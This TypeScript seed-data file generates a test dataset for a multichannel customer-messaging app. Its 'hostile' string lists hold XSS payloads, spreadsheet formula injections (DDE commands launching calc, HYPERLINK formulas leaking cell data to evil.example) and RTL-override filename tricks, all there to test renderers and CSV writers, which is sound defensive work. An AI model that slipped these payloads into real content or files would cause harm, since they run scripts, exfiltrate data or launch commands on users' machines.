/**
 * Words the data set is made of: names, message texts, templates, provider errors, and the hostile
 * strings that `hostile: true` mixes in. Plain data, no logic.
 */
import type { MessageError, Status } from '../../src/core/contract/types.js';

export interface ChannelSeed {
  name: string;
  kind: string;
  reports: Status[];
  /** Which contacts write here: language and relative weight among that language's contacts. */
  locale: 'es' | 'pt';
  weight: number;
  /** Share of outgoing messages that fail (only where the channel reports `failed`). */
  failRate: number;
  /** Share of sent messages whose delivery is reported (only where reported). */
  deliverRate: number;
  /** Share of delivered messages that get read (only where reported). */
  readRate: number;
}

const ALL: Status[] = ['sent', 'delivered', 'read', 'failed'];

/** Twelve channels, each kind with the receipts its provider really reports. */
export const CHANNEL_SEEDS: ChannelSeed[] = [
  { name: 'WhatsApp Ventas', kind: 'whatsapp', reports: ALL, locale: 'es', weight: 30, failRate: 0.03, deliverRate: 0.96, readRate: 0.74 },
  { name: 'WhatsApp Soporte', kind: 'whatsapp', reports: ALL, locale: 'es', weight: 20, failRate: 0.03, deliverRate: 0.96, readRate: 0.78 },
  { name: 'WhatsApp Brasil', kind: 'whatsapp', reports: ALL, locale: 'pt', weight: 70, failRate: 0.035, deliverRate: 0.95, readRate: 0.72 },
  {
    name: 'Facebook Tienda Oficial',
    kind: 'facebook',
    reports: ALL,
    locale: 'es',
    weight: 12,
    failRate: 0.02,
    deliverRate: 0.95,
    readRate: 0.62,
  },
  {
    name: 'Instagram @tienda.mx',
    kind: 'instagram',
    reports: ALL,
    locale: 'es',
    weight: 10,
    failRate: 0.015,
    deliverRate: 0.95,
    readRate: 0.66,
  },
  {
    name: 'Telegram Pedidos',
    kind: 'telegram',
    reports: ['sent', 'failed'],
    locale: 'es',
    weight: 4,
    failRate: 0.03,
    deliverRate: 0,
    readRate: 0,
  },
  {
    name: 'Chat del sitio web',
    kind: 'webchat',
    reports: ['sent', 'delivered', 'read'],
    locale: 'es',
    weight: 8,
    failRate: 0,
    deliverRate: 0.9,
    readRate: 0.8,
  },
  {
    name: 'Correo Soporte',
    kind: 'email',
    reports: ['sent', 'delivered', 'failed'],
    locale: 'es',
    weight: 6,
    failRate: 0.025,
    deliverRate: 0.92,
    readRate: 0,
  },
  {
    name: 'SMS Cobranza',
    kind: 'sms',
    reports: ['sent', 'delivered', 'failed'],
    locale: 'es',
    weight: 4,
    failRate: 0.05,
    deliverRate: 0.93,
    readRate: 0,
  },
  {
    name: 'Google Business Sucursales',
    kind: 'google_business',
    reports: ALL,
    locale: 'es',
    weight: 3,
    failRate: 0.02,
    deliverRate: 0.93,
    readRate: 0.5,
  },
  {
    name: 'LINE Oficial',
    kind: 'line',
    reports: ['sent', 'failed'],
    locale: 'es',
    weight: 1.5,
    failRate: 0.02,
    deliverRate: 0,
    readRate: 0,
  },
  { name: 'Viber Promociones', kind: 'viber', reports: ALL, locale: 'es', weight: 1.5, failRate: 0.03, deliverRate: 0.92, readRate: 0.52 },
  {
    name: 'Correo Brasil',
    kind: 'email',
    reports: ['sent', 'delivered', 'failed'],
    locale: 'pt',
    weight: 15,
    failRate: 0.025,
    deliverRate: 0.92,
    readRate: 0,
  },
  {
    name: 'Instagram Brasil',
    kind: 'instagram',
    reports: ALL,
    locale: 'pt',
    weight: 15,
    failRate: 0.015,
    deliverRate: 0.95,
    readRate: 0.66,
  },
];

export const TEAM_NAMES = ['Ventas', 'Soporte', 'Cobranza', 'Postventa', 'Brasil'] as const;

/** Agents and the team (index into {@link TEAM_NAMES}) each belongs to. */
export const USER_SEEDS: [string, number][] = [
  ['Daniela Ríos', 0],
  ['Carlos Méndez', 0],
  ['Ana Sofía Treviño', 0],
  ['Jorge Ibarra', 0],
  ['Mariana Peña', 1],
  ['Luis Ángel Ochoa', 1],
  ['Paola Cárdenas', 1],
  ['Emilio Zárate', 1],
  ['Fernanda Solís', 2],
  ['Ricardo Núñez', 2],
  ['Gabriela Olvera', 3],
  ['Rafael Aguirre', 3],
  ['Thaís Gonçalves', 4],
  ['Bruno Araújo', 4],
];

export const FIRST_NAMES_ES = [
  'María José',
  'José Luis',
  'Sofía',
  'Valentina',
  'Camila',
  'Lucía',
  'Ximena',
  'Renata',
  'Andrés',
  'Sebastián',
  'Matías',
  'Joaquín',
  'Martín',
  'Nicolás',
  'Tomás',
  'Iñaki',
  'Begoña',
  'Ramón',
  'Álvaro',
  'Óscar',
  'Inés',
  'Mónica',
  'Verónica',
  'Jesús',
  'Ángel',
  'Raúl',
  'Héctor',
  'Ignacio',
  'Fátima',
  'Dolores',
  'Guadalupe',
  'Rocío',
  'Pilar',
  'Nuria',
  'Íker',
  'Citlali',
  'Xóchitl',
  'Zoé',
  'Noemí',
  'Adrián',
  'Rubén',
  'Efraín',
  'Germán',
  'Julián',
  'Marisol',
  'Concepción',
  'Estéfani',
  'Agustín',
];

export const LAST_NAMES_ES = [
  'Pérez',
  'García',
  'Hernández',
  'López',
  'Martínez',
  'González',
  'Rodríguez',
  'Sánchez',
  'Ramírez',
  'Díaz',
  'Gómez',
  'Jiménez',
  'Ruiz',
  'Álvarez',
  'Muñoz',
  'Domínguez',
  'Vázquez',
  'Núñez',
  'Peña',
  'Ibáñez',
  'Castañeda',
  'Gutiérrez',
  'Chávez',
  'Cortés',
  'Ordóñez',
  'Beltrán',
  'Méndez',
  'Suárez',
  'Rivera',
  'Morales',
  'Ortiz',
  'Fernández',
  'Mendoza',
  'Nava',
  'Zúñiga',
  'Montaño',
  'Añorve',
];

export const FIRST_NAMES_PT = [
  'João',
  'José',
  'Antônio',
  'Luís',
  'Gonçalo',
  'Sebastião',
  'Conceição',
  'Ana Lúcia',
  'Márcia',
  'Cláudia',
  'Luíza',
  'Letícia',
  'Vitória',
  'Júlia',
  'Beatriz',
  'Gabriel',
  'Thiago',
  'Caio',
  'Estêvão',
  'Inês',
  'Açucena',
  'Simão',
  'Rafaela',
  'Flávia',
  'Fábio',
  'Otávio',
  'Lúcia',
  'Mônica',
];

export const LAST_NAMES_PT = [
  'Gonçalves',
  'Magalhães',
  'Conceição',
  'Araújo',
  'Brandão',
  'Simões',
  'Falcão',
  'Guimarães',
  'Lourenço',
  'Assunção',
  'Pereira',
  'Sousa',
  'Rodrigues',
  'Fernandes',
  'Lopes',
  'Barros',
  'Ribeiro',
  'Carvalho',
  'Gomes',
  'Nogueira',
  'Leitão',
  'Damião',
  'Brás',
];

export const MONTHS_ES = [
  'enero',
  'febrero',
  'marzo',
  'abril',
  'mayo',
  'junio',
  'julio',
  'agosto',
  'septiembre',
  'octubre',
  'noviembre',
  'diciembre',
];

/** Placeholders: {nombre} {pedido} {monto} {fecha} {hora} {codigo} {mes}. */
export const TEXTS = {
  incoming: {
    es: [
      'Hola, buenas tardes. ¿Tienen disponible la talla M?',
      'Buen día, quisiera saber el estado de mi pedido #{pedido}',
      '¿Cuál es su horario de atención?',
      'Ya realicé el pago, les comparto el comprobante',
      'No me ha llegado el paquete y ya pasaron 5 días',
      '¿Hacen envíos a Monterrey?',
      'Gracias, muy amable',
      '¿Me pueden ayudar a cambiar mi dirección de entrega?',
      'Quiero cancelar mi suscripción',
      '¿Aceptan tarjeta de crédito a meses sin intereses?',
      'El producto llegó dañado, ¿cómo hago la devolución?',
      'Perfecto, quedo atento',
      '¿Todavía tienen la promoción del 2x1?',
      'Necesito la factura de mi compra del {fecha}',
      'Sí, confirmo mi cita',
      'No reconozco este cargo de ${monto}',
      '¿Dónde está su sucursal más cercana?',
      'Ok',
      'Buenas noches, ¿siguen abiertos?',
      'Me llegó un código pero no funciona',
      'Hola',
      '¿Cuánto cuesta el envío a Guadalajara?',
      'Ya lo recibí, todo en orden. ¡Gracias!',
    ],
    pt: [
      'Olá, boa tarde! Vocês têm esse produto em estoque?',
      'Bom dia, gostaria de saber o status do meu pedido #{pedido}',
      'Qual é o horário de atendimento?',
      'Já fiz o pagamento, segue o comprovante',
      'Meu pedido ainda não chegou',
      'Vocês entregam em São Paulo?',
      'Obrigada, muito atenciosa',
      'Preciso trocar o endereço de entrega',
      'Quero cancelar minha assinatura',
      'Aceitam Pix?',
      'O produto chegou com defeito, como faço a devolução?',
      'Perfeito, fico no aguardo',
      'Sim, confirmo o horário',
      'Não reconheço essa cobrança de R$ {monto}',
      'Oi',
    ],
  },
  user: {
    es: [
      '¡Hola {nombre}! Con gusto te ayudo. ¿Me compartes tu número de pedido?',
      'Tu pedido #{pedido} salió hoy de nuestro almacén y llegará en 2 a 3 días hábiles.',
      'Nuestro horario es de lunes a viernes de 9:00 a 19:00 y sábados de 10:00 a 14:00.',
      'Recibimos tu comprobante, en un momento validamos el pago.',
      'Lamento mucho el inconveniente, ya levanté un reporte con la paquetería.',
      'Sí, hacemos envíos a todo el país. El costo depende de tu código postal.',
      'Listo, actualicé tu dirección de entrega.',
      'Te envío la guía de devolución; el reembolso se refleja en 5 a 7 días hábiles.',
      'Claro, la factura te llegará a tu correo en las próximas 24 horas.',
      '¿Hay algo más en lo que te pueda ayudar?',
      'Con gusto, {nombre}. ¡Que tengas excelente día!',
      'Ya revisé tu cuenta: el cargo de ${monto} corresponde a tu mensualidad de {mes}.',
    ],
    pt: [
      'Olá {nombre}! Com prazer te ajudo. Pode me passar o número do pedido?',
      'Seu pedido #{pedido} saiu hoje do nosso centro de distribuição.',
      'Nosso horário é de segunda a sexta, das 9h às 18h.',
      'Recebemos o comprovante, já estamos validando o pagamento.',
      'Sinto muito pelo transtorno, já abri uma reclamação com a transportadora.',
      'Pronto, atualizei o endereço de entrega.',
      'Posso ajudar em mais alguma coisa?',
      'Por nada, {nombre}! Tenha um ótimo dia.',
    ],
  },
  bot: {
    es: [
      '¡Hola! Soy el asistente virtual. ¿En qué te puedo ayudar? 1) Pedidos 2) Pagos 3) Hablar con un asesor',
      'Para consultar tu pedido escribe el número que aparece en tu confirmación.',
      'Estamos fuera de horario. Te responderemos mañana a partir de las 9:00.',
      'Te comunico con un asesor, en breve te atenderá.',
      'Tu pedido #{pedido} está en camino. Fecha estimada de entrega: {fecha}.',
      'No entendí tu mensaje. ¿Podrías escribirlo de otra forma?',
    ],
    pt: [
      'Olá! Sou o assistente virtual. Como posso ajudar? 1) Pedidos 2) Pagamentos 3) Falar com um atendente',
      'Estamos fora do horário de atendimento. Responderemos amanhã a partir das 9h.',
      'Vou te transferir para um atendente.',
      'Seu pedido #{pedido} está a caminho. Previsão de entrega: {fecha}.',
    ],
  },
  echo: {
    es: ['Te marco en 5 minutos', 'Ya quedó, gracias', 'Te mando la ubicación por aquí', 'Sale, nos vemos mañana'],
    pt: ['Te ligo em 5 minutos', 'Pronto, obrigado', 'Combinado, até amanhã'],
  },
  automated: {
    es: [
      'Gracias por escribirnos. Un asesor te atenderá en breve.',
      'Tu pedido #{pedido} fue entregado. ¡Gracias por tu compra!',
      'Registramos tu pago de ${monto}. Folio {codigo}.',
      'Tu ticket #{pedido} fue cerrado. Si necesitas algo más, responde este mensaje.',
      'Tu código de verificación es {codigo}.',
    ],
    pt: [
      'Obrigado pelo contato. Um atendente falará com você em breve.',
      'Seu pedido #{pedido} foi entregue. Obrigado pela compra!',
      'Recebemos seu pagamento de R$ {monto}.',
    ],
  },
} as const;

/** WhatsApp template names and their texts. */
export const TEMPLATES: Record<string, { locale: 'es' | 'pt'; text: string }> = {
  recordatorio_pago: {
    locale: 'es',
    text: 'Hola {nombre}, te recordamos que tu pago de ${monto} vence el {fecha}. Evita recargos pagando a tiempo.',
  },
  confirmacion_pedido: { locale: 'es', text: '¡Gracias por tu compra, {nombre}! Tu pedido #{pedido} fue confirmado.' },
  seguimiento_envio: { locale: 'es', text: 'Tu pedido #{pedido} va en camino. Rastréalo en https://envios.ejemplo.mx/{pedido}' },
  recordatorio_cita: { locale: 'es', text: 'Hola {nombre}, te recordamos tu cita el {fecha} a las {hora}. Responde SÍ para confirmar.' },
  codigo_verificacion: { locale: 'es', text: 'Tu código de verificación es {codigo}. No lo compartas con nadie.' },
  encuesta_satisfaccion: { locale: 'es', text: '¿Cómo calificarías la atención que recibiste? Responde del 1 al 5.' },
  promocion_temporada: { locale: 'es', text: '{nombre}, ¡llegó la temporada de ofertas! Hasta 40% de descuento en la tienda en línea.' },
  bienvenida_cliente: { locale: 'es', text: '¡Bienvenido(a), {nombre}! Guarda este número para recibir noticias de tus pedidos.' },
  reactivacion_cliente: { locale: 'es', text: 'Te extrañamos, {nombre}. Usa el cupón VUELVE15 en tu próxima compra.' },
  lembrete_pagamento: { locale: 'pt', text: 'Olá {nombre}, lembramos que seu boleto de R$ {monto} vence em {fecha}.' },
  atualizacao_pedido: { locale: 'pt', text: 'Seu pedido #{pedido} foi enviado! Acompanhe a entrega pelo aplicativo.' },
  pesquisa_satisfacao: { locale: 'pt', text: 'Como você avalia o atendimento que recebeu? Responda de 1 a 5.' },
};

/** Facebook message tags and a text each. */
export const FACEBOOK_TAGS: Record<string, string> = {
  CONFIRMED_EVENT_UPDATE: 'Recordatorio: tu evento es el {fecha} a las {hora}. ¡Te esperamos!',
  POST_PURCHASE_UPDATE: 'Tu pedido #{pedido} fue enviado y llegará pronto.',
  ACCOUNT_UPDATE: 'Actualizamos los datos de tu cuenta. Si no reconoces el cambio, contáctanos.',
  HUMAN_AGENT: 'Hola {nombre}, te escribo para dar seguimiento a tu caso #{pedido}.',
};

export interface BroadcastPlan {
  name: string;
  /** Index into {@link CHANNEL_SEEDS}. */
  channel: number;
  /** Template (WhatsApp), tag (Facebook) or null. */
  subtype: string | null;
  text: string | null;
  weight: number;
}

export const BROADCAST_PLANS: BroadcastPlan[] = [
  { name: 'Cobranza', channel: 0, subtype: 'recordatorio_pago', text: null, weight: 5 },
  { name: 'Promo de temporada', channel: 0, subtype: 'promocion_temporada', text: null, weight: 4 },
  { name: 'Recordatorio de citas', channel: 1, subtype: 'recordatorio_cita', text: null, weight: 3 },
  { name: 'Encuesta de satisfacción', channel: 1, subtype: 'encuesta_satisfaccion', text: null, weight: 2 },
  { name: 'Reactivación de clientes', channel: 0, subtype: 'reactivacion_cliente', text: null, weight: 2 },
  { name: 'Cobranza Brasil', channel: 2, subtype: 'lembrete_pagamento', text: null, weight: 2 },
  { name: 'Aviso de evento', channel: 3, subtype: 'CONFIRMED_EVENT_UPDATE', text: null, weight: 1.5 },
  { name: 'Actualización de pedidos', channel: 3, subtype: 'POST_PURCHASE_UPDATE', text: null, weight: 1 },
  {
    name: 'Aviso de corte',
    channel: 8,
    subtype: null,
    text: 'Aviso: tu servicio será suspendido el {fecha} por falta de pago de ${monto}.',
    weight: 2,
  },
  {
    name: 'Boletín mensual',
    channel: 7,
    subtype: null,
    text: 'Boletín de {mes}: novedades, lanzamientos y ofertas exclusivas para ti, {nombre}.',
    weight: 1.5,
  },
  {
    name: 'Promociones Viber',
    channel: 11,
    subtype: null,
    text: '{nombre}, solo esta semana: envío gratis en compras mayores a $499.',
    weight: 0.7,
  },
];

/** Real provider error codes and messages per channel kind, with relative weights. */
export const PROVIDER_ERRORS: Record<string, [MessageError & { only?: 'session' | 'template' }, number][]> = {
  whatsapp: [
    [{ code: '131026', message: 'Message undeliverable' }, 40],
    [{ code: '131047', message: 'Re-engagement message', only: 'session' }, 18],
    [{ code: '131051', message: 'Unsupported message type' }, 4],
    [{ code: '130429', message: 'Rate limit hit' }, 6],
    [{ code: '131056', message: '(Business Account, Consumer Account) pair rate limit hit' }, 4],
    [{ code: '131049', message: 'This message was not delivered to maintain healthy ecosystem engagement.', only: 'template' }, 16],
    [{ code: '132001', message: 'Template name does not exist in the translation', only: 'template' }, 3],
    [
      {
        code: '470',
        message: 'Message failed to send because more than 24 hours have passed since the customer last replied to this number',
        only: 'session',
      },
      5,
    ],
  ],
  sms: [
    [{ code: '30003', message: 'Unreachable destination handset' }, 40],
    [{ code: '30005', message: 'Unknown destination handset' }, 25],
    [{ code: '30007', message: 'Message filtered' }, 20],
    [{ code: '30006', message: 'Landline or unreachable carrier' }, 10],
    [{ code: '30008', message: 'Unknown error' }, 5],
  ],
  facebook: [
    [{ code: '551', message: "This person isn't available right now" }, 50],
    [{ code: '10', message: 'This message is sent outside of allowed window' }, 30],
    [{ code: '100', message: 'No matching user found' }, 10],
    [{ code: '613', message: 'Calls to this api have exceeded the rate limit' }, 10],
  ],
  instagram: [
    [{ code: '551', message: "This person isn't available right now" }, 60],
    [{ code: '10', message: 'This message is sent outside of allowed window' }, 40],
  ],
  email: [
    [{ code: '550', message: 'Mailbox unavailable' }, 50],
    [{ code: '552', message: 'Mailbox full' }, 20],
    [{ code: '553', message: 'Mailbox name not allowed' }, 10],
    [{ code: '554', message: 'Transaction failed: message rejected as spam' }, 20],
  ],
  telegram: [
    [{ code: '403', message: 'Forbidden: bot was blocked by the user' }, 60],
    [{ code: '400', message: 'Bad Request: chat not found' }, 30],
    [{ code: '429', message: 'Too Many Requests: retry after 5' }, 10],
  ],
  google_business: [
    [{ code: '404', message: 'Requested entity was not found.' }, 50],
    [{ code: '400', message: 'Request contains an invalid argument.' }, 30],
    [{ code: '429', message: 'Quota exceeded' }, 20],
  ],
  line: [
    [{ code: '400', message: 'Failed to send messages' }, 60],
    [{ code: '429', message: 'You have reached your monthly limit.' }, 40],
  ],
  viber: [
    [{ code: '6', message: 'receiverNotSubscribed' }, 55],
    [{ code: '5', message: 'receiverNotRegistered' }, 30],
    [{ code: '11', message: 'receiverNoSuitableDevice' }, 15],
  ],
};

const LONG_TEXT =
  Array.from({ length: 60 }, (_, i) => `Línea ${i + 1}: este mensaje es muy largo y no tiene espacios suficientes para cortarse bien`).join(
    ' ',
  ) + 'x'.repeat(800);

/** Strings that break naive renderers, CSV writers and layouts. */
export const HOSTILE_TEXTS: string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert("xss")</script>',
  '"><svg onload=alert(document.domain)>',
  'javascript:alert(1)',
  '[Ver factura](javascript:alert(document.cookie))',
  '=HYPERLINK("https://evil.example/?d="&A1,"Ver factura")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)',
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'مرحبا، أريد معرفة حالة طلبي رقم ٤٥٦',
  'שלום, איפה ההזמנה שלי?',
  'factura\u202Efdp.exe',
  'cero\u200Bancho\u200Cunión\u200Dprueba\uFEFF',
  '👩‍💻🎉🇲🇽 ¡Gracias! 🙂👍🏽',
  '&lt;b&gt;escapado&lt;/b&gt; &amp; "comillas" \'simples\' `backticks`',
  '${alert(1)} {{constructor.constructor("alert(1)")()}}',
  LONG_TEXT,
];

export const HOSTILE_NAMES: string[] = [
  'Ana <img src=x onerror=alert(1)>',
  '=HYPERLINK("https://evil.example","Juan Pérez")',
  '+52 55 1234 5678',
  '-Luis Ortega',
  '@María Ruiz',
  '\tTabulada Gómez',
  '\rRetorno Díaz',
  'محمد الأحمد',
  'דוד כהן',
  'José\u200B\u200BPérez\u200D',
  'Ñandú 🦩👨‍👩‍👧 López',
  '<script>alert("contacto")</script>',
  'javascript:alert(1)',
  `Wolfeschlegelsteinhausenbergerdorff ${'María '.repeat(400)}`,
  'Ofelia \u202Enamuh\u202C',
];

export const HOSTILE_CHANNEL_NAMES = [
  'Chat <img src=x onerror=alert(1)>',
  '=HYPERLINK("https://evil.example/?x="&A1,"Viber")',
  'قناة واتساب 📱',
  `LINE ${'Oficial '.repeat(300)}`,
];

export const HOSTILE_TEAM_NAMES = ['<script>alert("team")</script>Soporte', "@SUM(1+1)*cmd|' /C calc'!A0"];

export const HOSTILE_USER_NAMES = ['-Carlos+Méndez', 'דנה לוי', 'Ana\u200B Sofía 👩‍💻', '<b onmouseover=alert(1)>Jorge</b>'];

export const HOSTILE_TEMPLATE_NAMES: Record<string, string> = {
  promocion_temporada: 'promo_<img src=x onerror=alert(1)>',
  encuesta_satisfaccion: '=HYPERLINK("https://evil.example","encuesta")',
  reactivacion_cliente: 'reactivación_العملاء_\u200B',
};

export const HOSTILE_BROADCAST_NAMES = [
  '<img src=x onerror=alert(1)> Cobranza',
  '=HYPERLINK("https://evil.example","Promo")',
  '+Promo 2x1',
  'حملة رمضان 🌙',
  `Campaña ${'muy larga '.repeat(200)}`,
  'javascript:alert("broadcast")',
];
